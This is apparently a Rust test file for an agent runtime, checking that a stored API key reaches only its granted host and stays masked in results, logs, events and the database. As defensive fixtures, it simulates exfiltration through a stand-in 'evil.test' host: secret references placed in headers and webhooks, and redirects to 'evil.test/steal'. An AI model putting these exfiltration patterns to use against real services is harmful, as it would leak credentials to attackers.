//! A secret reaches the host that it was granted for, and nothing else: not another host, not the worker, not the
//! journal, the events, the audit log, nor any byte of the database.

use agentos_base::redact::MASK;
use agentos_types::Code;
use base64::{Engine, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use crate::{
    house::{House, Worker, database_bytes},
    server::{Seen, Server, answer},
};

/// With every character that some encoding changes.
const PLANTED: &str = "pl4nted/Value+\"9=~tail;Z";

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

/// What must not be found anywhere. Of base64 the middle, which does not depend on what stands around the secret.
fn traces() -> Vec<String> {
    let mut traces = vec![
        PLANTED.to_owned(),
        serde_json::to_string(PLANTED).unwrap().trim_matches('"').to_owned(),
        hex(PLANTED),
        hex(PLANTED).to_uppercase(),
        "pl4nted%2FValue%2B%229%3D~tail%3BZ".to_owned(),
        "pl4nted%2fValue%2b%229%3d~tail%3bZ".to_owned(),
    ];
    for before in ["", "x", "xx"] {
        let encoded = STANDARD.encode(format!("{before}{PLANTED}"));
        traces.push(encoded[4..encoded.len() - 4].to_owned());
    }
    traces
}

fn clean(place: &str, bytes: &[u8]) {
    for trace in traces() {
        assert!(!bytes.windows(trace.len()).any(|window| window == trace.as_bytes()), "{place} holds {trace}");
    }
}

/// Sends back what it was given, in every spelling that a debug page or a log collector may use.
fn echo(seen: &Seen) -> String {
    let value = seen.header("x-key");
    let bearer = seen.header("authorization");
    let parts = [
        value.to_owned(),
        bearer.to_owned(),
        serde_json::to_string(&seen.headers).unwrap(),
        STANDARD.encode(value),
        STANDARD.encode(bearer),
        STANDARD.encode(format!("user:{value}")),
        hex(value),
        hex(value).to_uppercase(),
        value.replace('/', "%2F").replace('+', "%2B").replace('"', "%22").replace('=', "%3D").replace(';', "%3B"),
        value.replace('/', "%2f").replace('+', "%2b").replace('"', "%22").replace('=', "%3d").replace(';', "%3b"),
    ];
    parts.join("\n")
}

async fn stage(server: &Server, grants: &[[&str; 3]]) -> (House, Worker) {
    let house = House::open(server).await;
    house.secret("api-key", PLANTED).await;
    let worker = house.worker("a", grants).await;
    (house, worker)
}

fn keyed(url: String) -> Value {
    json!({"url": url, "headers": {"Authorization": "Bearer ${secret:api-key}", "X-Key": "${secret:api-key}"}})
}

#[tokio::test]
async fn an_echoed_secret_is_masked_wherever_it_could_land() {
    let server = Server::start(|seen| match seen.target.as_str() {
        // So many control characters that the body travels as base64.
        "/binary" => answer("200 OK", "", &format!("{}{}", "\u{1}".repeat(600_001), seen.header("x-key"))),
        "/fail" => answer("500 Oops", "", &echo(seen)),
        _ => answer("200 OK", &format!("x-echo: {}\r\n", seen.header("x-key")), &echo(seen)),
    })
    .await;
    let all = server.url("api.test", "/*");
    let grants = [
        ["net", "fetch", all.as_str()],
        ["secret", "use", "api-key@api.test"],
        ["kv", "write", "*"],
        ["kv", "read", "*"],
        ["notify", "event", "event:*"],
    ];
    let (house, worker) = stage(&server, &grants).await;
    for (step, path) in [("echo", "/"), ("binary", "/binary"), ("fail", "/fail")] {
        let result = house.call(&worker, step, "net.fetch", keyed(server.url("api.test", path))).await.unwrap();
        assert!(result["body"].as_str().unwrap().contains(MASK), "{path}");
        clean(path, result.to_string().as_bytes());
        // Passed on by an agent that is on nobody's side.
        let kept = json!({"key": step, "value": result});
        house.call(&worker, &format!("{step} kept"), "kv.put", kept).await.unwrap();
        let told = json!({"kind": "k", "data": {"body": step}, "dedupe_key": step});
        house.call(&worker, &format!("{step} told"), "notify.event", told).await.unwrap();
    }
    let seen = server.seen();
    assert_eq!(seen[0].header("x-key"), PLANTED, "the granted host gets it");
    assert_eq!(seen[0].header("authorization"), format!("Bearer {PLANTED}"));

    // After a crash the journal answers, masked as it was.
    let next = house.crash(&worker).await;
    let again = house.call(&next, "echo", "net.fetch", keyed(server.url("api.test", "/"))).await.unwrap();
    clean("the replay", again.to_string().as_bytes());
    clean("the events", serde_json::to_string(&house.events(&worker).await).unwrap().as_bytes());
    clean("the exported log", &house.log.export(0).await.unwrap());
    house.verified().await;
    clean("the database", &database_bytes(house.directory.path()));
    let directory = house.close();
    clean("the closed database", &database_bytes(directory.path()));
}

#[tokio::test]
async fn a_secret_goes_to_its_granted_host_only() {
    let server = Server::saying("ok").await;
    let (api, evil) = (server.url("api.test", "/*"), server.url("evil.test", "/*"));
    let grants = [
        ["net", "fetch", api.as_str()],
        ["net", "fetch", evil.as_str()],
        ["notify", "webhook", evil.as_str()],
        ["secret", "use", "api-key@api.test"],
    ];
    let (house, worker) = stage(&server, &grants).await;
    let evil = server.url("evil.test", "/");
    for (step, header, value) in [
        ("plain", "x-key", "${secret:api-key}"),
        ("case", "X-KEY", "${secret:api-key}"),
        ("inside", "authorization", "Bearer ${secret:api-key} x"),
        ("second", "x-key", "a ${secret:api-key} b ${secret:api-key}"),
        ("unknown", "x-key", "${secret:other-key}"),
    ] {
        let args = json!({"url": evil, "headers": {header: value}});
        let error = house.refused(house.call(&worker, step, "net.fetch", args).await, Code::NOT_GRANTED);
        assert!(error.message.contains("secret:use"), "{error}");
    }
    let hook = json!({"url": evil, "body": 1, "secret": "api-key"});
    house.refused(house.call(&worker, "hook", "notify.webhook", hook).await, Code::NOT_GRANTED);
    assert_eq!(server.count(), 0);

    // What is not a reference is sent as it stands; it names a secret and is none.
    let odd =
        json!({"url": evil, "method": "POST", "headers": {"x-key": "$ {secret:api-key}"}, "body": "${secret:api-key}"});
    house.call(&worker, "odd", "net.fetch", odd).await.unwrap();
    let seen = server.seen();
    assert_eq!((seen[0].header("x-key"), seen[0].body.as_str()), ("$ {secret:api-key}", "${secret:api-key}"));
    for request in &seen {
        clean("a request to another host", format!("{request:?}").as_bytes());
    }
    house.verified().await;
}

#[tokio::test]
async fn a_redirect_does_not_carry_a_secret_away() {
    let server = Server::start(|seen| {
        let (host, port) = seen.header("host").split_once(':').unwrap();
        match (host, seen.target.as_str()) {
            ("api.test", "/go") => answer("302 Found", &format!("location: http://evil.test:{port}/steal\r\n"), ""),
            ("api.test", "/keep") => answer("307 Again", &format!("location: http://evil.test:{port}/steal\r\n"), ""),
            _ => answer("200 OK", "", &echo(seen)),
        }
    })
    .await;
    let (api, evil) = (server.url("api.test", "/*"), server.url("evil.test", "/*"));
    let (house, worker) = stage(&server, &[["net", "fetch", &api], ["secret", "use", "api-key@api.test"]]).await;
    let refused = house.call(&worker, "go", "net.fetch", keyed(server.url("api.test", "/go"))).await;
    house.refused(refused, Code::REDIRECT_DENIED);
    assert_eq!(server.count(), 1, "the other host was not asked");

    // With a grant for the other host the redirect is followed, without what was meant for the first.
    let wider = house
        .worker("b", &[["net", "fetch", &api], ["net", "fetch", &evil], ["secret", "use", "api-key@api.test"]])
        .await;
    for (step, path) in [("go", "/go"), ("keep", "/keep")] {
        house.call(&wider, step, "net.fetch", keyed(server.url("api.test", path))).await.unwrap();
        let last = server.seen().pop().unwrap();
        assert!(last.header("host").starts_with("evil.test"));
        clean(path, format!("{last:?}").as_bytes());
        assert_eq!((last.header("x-key"), last.header("authorization")), ("", ""));
    }
    house.verified().await;
}

#[tokio::test]
async fn a_secret_that_is_gone_or_never_was_sends_nothing() {
    let server = Server::saying("ok").await;
    let all = server.url("api.test", "/*");
    let (house, worker) = stage(&server, &[["net", "fetch", &all], ["secret", "use", "api-key@api.test"]]).await;
    house.secrets.revoke(&agentos_types::Actor::System, &"api-key".parse().unwrap()).await.unwrap();
    let outcome = house.call(&worker, "a", "net.fetch", keyed(server.url("api.test", "/"))).await;
    house.refused(outcome, Code::SECRET_NOT_FOUND);
    assert_eq!(server.count(), 0);
    let records = house.records_of(&worker, "a").await;
    assert_eq!(records.len(), 2, "intent and failed outcome");
    house.verified().await;
}
